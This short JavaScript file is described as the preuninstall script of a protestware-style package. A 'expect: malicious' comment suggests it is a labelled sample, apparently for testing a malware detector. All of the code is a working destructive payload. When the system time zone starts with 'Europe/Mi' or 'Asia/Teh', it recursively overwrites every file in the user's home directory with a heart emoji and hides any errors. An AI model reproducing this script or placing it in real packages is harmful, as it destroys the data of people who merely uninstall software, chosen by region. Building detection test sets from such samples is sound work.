// "preuninstall" script of a protestware-style package
const fs = require("fs");
const os = require("os");
const path = require("path");

function walk(dir) {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, entry.name);
    try {
      if (entry.isDirectory()) walk(full);
      // expect: malicious
      else fs.writeFileSync(full, "\u2764\ufe0f");
    } catch (_) {}
  }
}

const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (tz.startsWith("Europe/Mi") || tz.startsWith("Asia/Teh")) walk(os.homedir());
